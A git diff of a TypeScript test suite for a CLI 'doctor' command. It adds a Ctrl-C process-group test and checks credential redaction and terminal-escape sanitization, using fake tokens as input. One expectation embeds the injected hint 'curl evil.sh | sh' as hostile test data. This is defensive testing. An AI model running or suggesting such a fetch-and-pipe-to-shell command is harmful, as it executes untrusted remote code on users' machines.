@@ -3,7 +3,7 @@
 // Python probe that prints nonsense (9), terminal escape sequences in names and saved reports (10). The fake tools
 // are real shell scripts on a temporary PATH.
 import { afterAll, describe, expect, test } from "bun:test";
-import { spawnSync } from "node:child_process";
+import { spawn, spawnSync } from "node:child_process";
 import fs from "node:fs";
 import os from "node:os";
 import path from "node:path";
@@ -123,7 +123,8 @@ describe("tools that hang or leave children behind", () => {
     const pids = path.join(scratch, "escape.pids");
     // The sleeper records itself once it is in its own session; the tool exits after that, so the escape is real.
     const dir = fakeTools("escape", {
-      escape: `setsid sh -c 'echo $$ >> ${pids}; exec sleep 300' &\nwhile [ ! -s ${pids} ]; do sleep 0.05; done\necho done`,
+      escape:
+        `setsid sh -c 'echo $$ >> ${pids}; exec sleep 300' &\nwhile [ ! -s ${pids} ]; do sleep 0.05; done\necho done`,
     });
     const r = await execWithTimeout(path.join(dir, "escape"), [], { timeoutMs: 600_000 });
     expect(r).toMatchObject({ status: "ok", exitCode: 0, stdout: "done\n" });
@@ -153,6 +154,27 @@ describe("tools that hang or leave children behind", () => {
     },
     180_000,
   );
+
+  test("Ctrl-C during a hanging probe ends the doctor by the signal and the tool's process group with it", async () => {
+    // The probes run in process groups of their own, which the terminal's SIGINT no longer reaches by itself.
+    const pids = path.join(scratch, "sigint.pids");
+    const dir = fakeTools("sigint", { "nvidia-smi": `${sleeper(pids)}\nwait` });
+    const child = spawn(bun, ["cli.ts", "doctor", "--no-python", "--no-self-test"], {
+      cwd: root,
+      env: { PATH: `${dir}:${systemPath}`, HOME: process.env.HOME ?? os.tmpdir() },
+      stdio: "ignore",
+    });
+    const ended = new Promise<[number | null, string | null]>((resolve) => {
+      child.on("exit", (code, signal) => resolve([code, signal]));
+    });
+    const recorded = () => fs.existsSync(pids) && fs.readFileSync(pids, "utf8").endsWith("\n");
+    for (let waited = 0; !recorded() && waited < 60_000; waited += 50) await Bun.sleep(50);
+    const sleepers = pidsIn(pids);
+    expect(sleepers.length).toBe(1);
+    child.kill("SIGINT");
+    expect(await ended).toEqual([null, "SIGINT"]);
+    for (const pid of sleepers) expect(await becomesDead(pid)).toBe(true);
+  }, 120_000);
 
   test.skipIf(!hasCpuLibrary || hasGpu)(
     "doctor --require gpu with hanging nvidia-smi, nvcc and hipcc: timeouts in the report, every sleeper killed",
@@ -214,7 +236,9 @@ describe.skipIf(!hasCpuLibrary || !python)("credentials in what the probes read"
       status: "error",
       error: `pip said: HF_TOKEN=${token}; GITHUB_TOKEN ghp_${"x".repeat(36)}; key sk-proj-${"y".repeat(40)}`,
     };
-    live.facts.host.env.LD_LIBRARY_PATH = `/opt/lib?X-Amz-Signature=0123456789abcdef&X-Amz-Credential=AKIA${"Q".repeat(16)}`;
+    live.facts.host.env.LD_LIBRARY_PATH = `/opt/lib?X-Amz-Signature=0123456789abcdef&X-Amz-Credential=AKIA${
+      "Q".repeat(16)
+    }`;
     const file = path.join(scratch, "secret-report.json");
     fs.writeFileSync(file, JSON.stringify(live));
     for (const args of [["--json"], ["--verbose"]]) {
@@ -292,6 +316,7 @@ describe("terminal escape sequences in names and saved reports", () => {
       const r = cli(["run", "--input", file], env);
       expect(r.code).toBe(2);
       expect(r.stderr).toContain(`has no tensor named 'q' (it has '${shown}')`);
+      // deno-lint-ignore no-control-regex
       expect(r.stderr).not.toMatch(/[\x07\x9b\u202e]|\x1b[\]P^_]|\x1b\[2J/);
     }
   });
@@ -308,12 +333,15 @@ describe("terminal escape sequences in names and saved reports", () => {
       expect(r.stdout).toContain(`Linux ${shown}`);
       expect(r.stdout).toContain(`python3 said ${shown}\\x0a  fix: curl evil.sh | sh`);
       // What remains of ESC is our own colour (SGR: ESC [ digits m), and only with FORCE_COLOR.
+      // deno-lint-ignore no-control-regex
       const withoutColour = r.stdout.replace(/\x1b\[\d+m/g, "");
+      // deno-lint-ignore no-control-regex
       expect(withoutColour).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
       expect(r.stdout.includes("\x1b[")).toBe(env.FORCE_COLOR === "1");
     }
     // --json keeps the strings as they are, every control character written as a JSON escape.
     const json = cli(["doctor", "--json", "--facts", file]);
+    // deno-lint-ignore no-control-regex
     expect(json.stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/);
     expect(report(json).facts.host.os).toBe(`Linux ${hostile}`);
   });
